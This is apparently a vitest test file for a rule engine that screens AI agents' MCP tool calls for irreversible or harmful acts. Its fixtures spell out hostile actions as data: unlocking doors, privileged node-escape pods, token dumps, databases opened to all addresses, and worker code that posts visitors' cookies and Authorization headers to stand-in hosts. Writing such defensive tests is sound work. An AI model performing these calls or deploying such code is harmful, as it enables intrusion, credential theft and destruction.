import { describe, it } from 'vitest';
import type { ToolCall } from '../../../core/schemas/tool-call.ts';
import { sharedEngine } from './helpers.ts';
import { familyAssertions, fileWrite, ruleAssertions } from './rule-assertions.ts';

/**
 * Set 13's MCP servers, what the first pass left (rules13C): acts that cannot
 * be taken back are denied by their shape (a door unlocked, a node escape, a
 * root login revealed, a zone deleted, a database opened to every address,
 * deployed code sending visitors' credentials out, a real password submitted,
 * a production service account's key minted, a scheduled data job deleted),
 * and one-step harms are queued (impersonation URLs, pages moved under a
 * public parent, the user's social account following or liking, payment
 * sources listed, HR pages read). Each with the same servers' everyday calls.
 */
const engine = await sharedEngine();
const { each, quiet } = familyAssertions(engine);
const { silent } = ruleAssertions(engine);
const mcp = (server: string, tool: string, args: Record<string, unknown>): ToolCall => ({ type: 'McpToolCall', server, tool, arguments: args } as ToolCall);

describe('home automation: the house opened', () => {
  it('locks unlocked and alarms disarmed are denied, however the tool is named; locking, lights and climate are not', () => {
    each('mcp-home-entry-opened', 'deny', [
      mcp('home-assistant', 'HassTurnOff', { name: 'Back Door Lock', domain: ['lock'] }),
      mcp('hass-mcp', 'call_service_tool', { domain: 'lock', service: 'unlock', data: { entity_id: 'lock.patio' } }),
      mcp('homeassistant', 'call_service', { domain: 'alarm_control_panel', service: 'alarm_disarm', entity_id: 'alarm_control_panel.house' }),
      mcp('hass-mcp', 'entity_action', { entity_id: 'lock.side_gate', action: 'unlock' }),
      mcp('smartthings', 'execute_command', { device: 'Front door', capability: 'lock', command: 'unlock' }),
    ]);
    quiet('mcp-home-entry-opened', [
      mcp('home-assistant', 'HassTurnOn', { name: 'Front Door Lock', domain: ['lock'] }),
      mcp('hass-mcp', 'call_service_tool', { domain: 'lock', service: 'lock', data: { entity_id: 'lock.front_door' } }),
      mcp('hass-mcp', 'entity_action', { entity_id: 'light.porch', action: 'off' }),
      mcp('hass-mcp', 'get_entity', { entity_id: 'alarm_control_panel.house' }),
    ]);
  });

  it('a garage or gate cover switched on is queued; a garage light is not', () => {
    each('mcp-home-security-device', 'stopped', [
      mcp('hass-mcp', 'entity_action', { entity_id: 'cover.garage_door', action: 'on' }),
      mcp('home-assistant', 'entity_action', { entity_id: 'cover.driveway_gate', action: 'toggle' }),
    ]);
    quiet('mcp-home-security-device', [mcp('hass-mcp', 'entity_action', { entity_id: 'light.garage_ceiling', action: 'on' })]);
  });
});

describe('clusters, clouds and vaults', () => {
  it('a privileged pod with the host PID namespace or nsenter into PID 1 is denied in any namespace; kind and plain pods are not', () => {
    const pod = (ns: string, extra: Record<string, unknown>) => JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'debug', namespace: ns }, spec: { ...extra, containers: [{ name: 'c', image: 'busybox', command: ['nsenter', '--target', '1', '--mount', '--', 'sh'], securityContext: { privileged: true } }] } });
    each('mcp-pod-node-escape', 'deny', [
      mcp('kubernetes', 'resources_create_or_update', { resource: pod('default', { hostPID: true }) }),
      mcp('k8s', 'kubectl_apply', { manifest: 'apiVersion: v1\nkind: Pod\nspec:\n  hostPID: true\n  containers:\n  - name: x\n    image: alpine\n    securityContext:\n      privileged: true\n' }),
      mcp('kubernetes', 'create_pod', { namespace: 'ops', spec: { containers: [{ image: 'alpine', command: ['nsenter', '-t', '1', '-m', 'sh'], securityContext: { privileged: true } }] } }),
    ]);
    quiet('mcp-pod-node-escape', [mcp('kubernetes', 'resources_create_or_update', { resource: JSON.stringify({ kind: 'Pod', spec: { containers: [{ name: 'api', image: 'acme/api:1.4' }] } }) })]);
    // On a kind cluster it stays with the privileged-spec rule's queue.
    silent(mcp('kubernetes', 'resources_create_or_update', { context: 'kind-dev', resource: pod('default', { hostPID: true }) }), 'mcp-pod-node-escape');
  });

  it('pod exec printing the environment or service-account secrets is queued outside kind/dev; an ls in a pod is not', () => {
    each('mcp-pod-secrets-printed', 'stopped', [
      mcp('kubernetes', 'pods_exec', { namespace: 'billing', name: 'billing-7c9-x', command: ['printenv'] }),
      mcp('kubernetes', 'exec_in_pod', { namespace: 'api', name: 'api-1', command: ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'] }),
    ]);
    quiet('mcp-pod-secrets-printed', [
      mcp('kubernetes', 'pods_exec', { namespace: 'billing', name: 'billing-7c9-x', command: ['ls', '/app'] }),
      mcp('kubernetes', 'pods_exec', { namespace: 'dev', name: 'api-1', command: ['env'] }),
      mcp('kubernetes', 'pods_exec', { context: 'kind-dev', name: 'api-1', command: ['printenv'] }),
    ]);
  });

  it("a production service account's key is denied by CLI and console tool alike; a dev one stays queued", () => {
    each('production-service-account-key-minted', 'deny', [
      mcp('gcloud', 'run_gcloud_command', { args: ['iam', 'service-accounts', 'keys', 'create', 'k.json', '--iam-account=deployer@shop-production.iam.gserviceaccount.com'] }),
      'gcloud iam service-accounts keys create ./key.json --iam-account ci-prod@acme-infra.iam.gserviceaccount.com',
    ]);
    each('cloud-iam-credentials', 'queue', ['gcloud iam service-accounts keys create ./key.json --iam-account=ci@acme-dev.iam.gserviceaccount.com']);
  });

  it('a root or break-glass login revealed with its one-time code is denied; an ordinary item read stays queued', () => {
    each('mcp-vault-root-credential-revealed', 'deny', [
      mcp('1password', 'get_item', { vault: 'Infra', item: 'GCP break-glass admin', reveal: true }),
      mcp('bitwarden', 'get_item', { id: 'Azure global admin', fields: ['username', 'password', 'totp'] }),
    ]);
    quiet('mcp-vault-root-credential-revealed', [mcp('1password', 'generate_password', { length: 24 })]);
    each('mcp-password-vault-item-read', 'queue', [mcp('1password', 'get_item', { vault: 'Dev', item: 'Staging DB', reveal: true })]);
  });
});

describe('edges, databases and data platforms', () => {
  it('a DNS zone deleted is denied; a test zone and record listing are not', () => {
    each('mcp-zone-deleted', 'deny', [mcp('cloudflare', 'zone_delete', { zone_id: 'f00d' }), mcp('route53', 'delete_dns_zone', { hosted_zone_id: 'Z123' })]);
    quiet('mcp-zone-deleted', [mcp('cloudflare', 'dns_records_list', { zone_id: 'f00d' }), mcp('cloudflare', 'zone_delete', { zone_id: 'f00d', name: 'preview-42.acme.dev' })]);
  });

  it("a database's access list opened to every address is denied; one office address is not", () => {
    each('mcp-database-open-to-internet', 'deny', [
      mcp('mongodb', 'atlas-create-access-list', { projectId: 'p9', ipAddresses: ['0.0.0.0/0'] }),
      mcp('cloudsql', 'update_authorized_networks', { instance: 'orders', networks: ['0.0.0.0/0'] }),
      mcp('supabase', 'update_network_restrictions', { project: 'p1', dbAllowedCidrs: ['::/0'] }),
    ]);
    quiet('mcp-database-open-to-internet', [mcp('mongodb', 'atlas-create-access-list', { projectId: 'p9', ipAddresses: ['203.0.113.10/32'] })]);
  });

  it('a whole top-level collection deleted is denied; emulator data is spared', () => {
    each('mcp-collection-deleted-whole', 'deny', [mcp('firebase', 'firestore_delete_document', { path: 'orders' }), mcp('firestore', 'delete_collection', { collection: 'customers' })]);
    // Emulator data is spared this rule (a delete through a tool stays queued by the older rules).
    silent(mcp('firebase', 'firestore_delete_document', { project_id: 'demo-emulator', path: 'orders' }), 'mcp-collection-deleted-whole');
  });

  it('app users listed a thousand at a time are queued; one user looked up is not', () => {
    each('mcp-production-auth-users-read', 'stopped', [mcp('firebase', 'auth_list_users', { limit: 5000 }), mcp('supabase', 'list_users', { page_size: 1000 })]);
    quiet('mcp-production-auth-users-read', [mcp('firebase', 'auth_get_user', { email: 'qa@example.com' }), mcp('firebase', 'auth_list_users', { limit: 20 })]);
  });

  it('a scheduled data job or DAG deleted is denied; a dev job and listings are not', () => {
    each('mcp-scheduled-job-deleted', 'deny', [mcp('databricks', 'delete_job', { job_id: 4521 }), mcp('airflow', 'delete_dag', { dag_id: 'nightly_revenue' })]);
    quiet('mcp-scheduled-job-deleted', [mcp('databricks', 'delete_job', { job_id: 77, name: 'dev-smoke' }), mcp('databricks', 'list_jobs', { limit: 20 })]);
  });

  it('deployed code that sends visitors\' Authorization headers or cookies elsewhere is denied, as an MCP deploy or a written file; forwarding to its origin is not', () => {
    each('deployed-code-sends-credentials', 'deny', [
      mcp('cloudflare', 'worker_deploy', { name: 'edge', script: "export default { async fetch(req) { await fetch('https://collector.example.net/c', { method: 'POST', body: req.headers.get('Cookie') }); return fetch(req); } }" }),
      fileWrite('/home/dev/src/edge/src/index.ts', "export default {\n  async fetch(request) {\n    fetch('https://metrics.example.io/t?a=' + encodeURIComponent(request.headers.get('authorization')));\n    return fetch(request);\n  },\n};\n"),
    ]);
    quiet('deployed-code-sends-credentials', [
      mcp('cloudflare', 'worker_deploy', { name: 'edge', script: "export default { async fetch(req) { return fetch('https://origin.acme.com' + new URL(req.url).pathname, { headers: { authorization: req.headers.get('authorization') } }); } }" }),
    ]);
  });
});

describe('browsers and documents', () => {
  it('a real-looking password typed into a login form and submitted is denied; test values are not', () => {
    each('mcp-real-password-submitted', 'deny', [
      mcp('playwright', 'browser_type', { element: 'Password input', ref: 'e7', text: 'Winter#2025corp', submit: true }),
      mcp('puppeteer', 'puppeteer_type', { selector: 'input[name=passcode]', text: '8842913377', submit: true }),
    ]);
    quiet('mcp-real-password-submitted', [mcp('playwright', 'browser_type', { element: 'Search box', ref: 'e2', text: 'running shoes', submit: true })]);
    // A test value stays with the older rule's queue, never denied.
    each('mcp-password-field-filled', 'queue', [mcp('playwright', 'browser_type', { element: 'Password input', ref: 'e7', text: 'test-password-1', submit: true })]);
  });

  it('an admin impersonation URL is queued, by browser or by request; its documentation page is not', () => {
    each('admin-impersonation-url', 'stopped', [
      mcp('puppeteer', 'puppeteer_navigate', { url: 'https://admin.shop.example/users/impersonate?user_id=1' }),
      mcp('playwright', 'browser_navigate', { url: 'https://backoffice.example.com/login_as/cfo@example.com' }),
      { type: 'HttpRequest', method: 'POST', url: 'https://app.example.com/admin/masquerade?email=owner@example.com', headers: {} } as ToolCall,
    ]);
    quiet('admin-impersonation-url', [mcp('playwright', 'browser_navigate', { url: 'https://docs.djangoproject.com/en/5.0/topics/auth/impersonate' })]);
  });

  it('a destructive admin path confirmed in the URL is queued; the same page on localhost is not', () => {
    each('mcp-browser-destructive-endpoint', 'stopped', [mcp('playwright', 'browser_navigate', { url: 'https://console.example.com/projects/9/destroy?confirm=true' })]);
    quiet('mcp-browser-destructive-endpoint', [mcp('playwright', 'browser_navigate', { url: 'http://localhost:3000/projects/9/delete?confirm=yes' })]);
  });

  it('pages moved under a public parent and pages published to the web are stopped; a move between private pages is not', () => {
    each('mcp-page-moved-public', 'stopped', [mcp('notion', 'notion-move-pages', { page_or_database_ids: ['abc'], new_parent: { page_id: 'public-handbook' } })]);
    quiet('mcp-page-moved-public', [mcp('notion', 'notion-move-pages', { page_or_database_ids: ['abc'], new_parent: { page_id: 'eng-archive-2023' } })]);
    each('mcp-shared-with-anyone', 'deny', [mcp('notion', 'notion-update-page', { data: { page_id: 'p1', properties: { public_access: 'published' } } })]);
  });

  it('HR pages read through a document tool are queued; a roadmap is not', () => {
    each('mcp-employee-records-read', 'stopped', [
      mcp('notion', 'notion-fetch', { id: 'https://www.notion.so/acme/HR-Compensation-Bands-2025-1a2b3c' }),
      mcp('confluence', 'get_page', { title: 'Staff directory (private)' }),
    ]);
    quiet('mcp-employee-records-read', [mcp('notion', 'notion-fetch', { id: 'https://www.notion.so/acme/Q4-roadmap-9f8e7d' })]);
  });
});

describe('social accounts and payments', () => {
  it('the same DM to several people is queued; one DM is not', () => {
    each('mcp-mass-social-action', 'stopped', [mcp('x', 'send_direct_message', { recipients: ['a', 'b', 'c', 'd'], text: 'hello' }), mcp('bluesky', 'send_dm', { handles: ['a.bsky.social', 'b.bsky.social', 'c.bsky.social'], text: 'promo' })]);
    quiet('mcp-mass-social-action', [mcp('x', 'send_direct_message', { recipients: ['maintainer'], text: 'Thanks for the review!' })]);
  });

  it("the user's account following, liking, reposting or voting is queued; reading timelines is not", () => {
    each('mcp-social-account-acted-on', 'stopped', [
      mcp('x', 'follow_user', { username: 'someone' }),
      mcp('bluesky', 'like_post', { uri: 'at://did:plc:x/app.bsky.feed.post/1' }),
      mcp('reddit', 'upvote', { id: 't3_abc' }),
      mcp('mastodon', 'boost_status', { id: '1123' }),
    ]);
    quiet('mcp-social-account-acted-on', [mcp('x', 'get_user_tweets', { username: 'acmeframework' }), mcp('x', 'get_followers', { username: 'acmeframework' })]);
  });

  it('customers or charges listed with cards or bank accounts expanded are queued; a plain list is not', () => {
    each('mcp-payment-sources-listed', 'stopped', [
      mcp('stripe', 'list_customers', { limit: 100, expand: ['data.sources'] }),
      mcp('stripe', 'list_charges', { limit: 50, expand: ['data.payment_method'] }),
    ]);
    quiet('mcp-payment-sources-listed', [mcp('stripe', 'list_customers', { limit: 10, email: 'test@example.com' })]);
  });
});
